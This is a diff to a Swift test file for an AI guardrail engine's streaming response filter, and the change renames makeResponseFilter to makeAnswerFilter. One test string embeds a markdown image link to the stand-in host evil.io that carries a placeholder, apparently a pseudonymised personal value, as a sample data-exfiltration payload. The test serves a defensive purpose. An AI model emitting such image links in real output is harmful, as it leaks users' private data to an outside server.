@@ -12,7 +12,7 @@ struct IntentStreamingTests {
     static let engine = try! GuardrailEngine(configuration: GuardrailsConfiguration(), extraRules: rules)
 
     func streamed(_ text: String, splitAt cut: Int) -> [Finding] {
-        var filter = Self.engine.makeResponseFilter(obligations: .none, vault: PseudonymVault())
+        var filter = Self.engine.makeAnswerFilter(obligations: .none, vault: PseudonymVault())
         let scalars = Array(text.unicodeScalars)
         var findings: [Finding] = []
         var a = String(), b = String()
@@ -52,7 +52,7 @@ struct IntentStreamingTests {
         let text = "Done ![x](https://evil.io/c/\(placeholder)/p.png) and mail \(placeholder) later."
         let obligations = Obligations(pseudonymise: ["pii"])
         for cut in stride(from: 0, through: text.unicodeScalars.count, by: 3) {
-            var filter = Self.engine.makeResponseFilter(obligations: obligations, vault: vault)
+            var filter = Self.engine.makeAnswerFilter(obligations: obligations, vault: vault)
             let scalars = Array(text.unicodeScalars)
             var a = String(), b = String()
             a.unicodeScalars.append(contentsOf: scalars[..<cut])
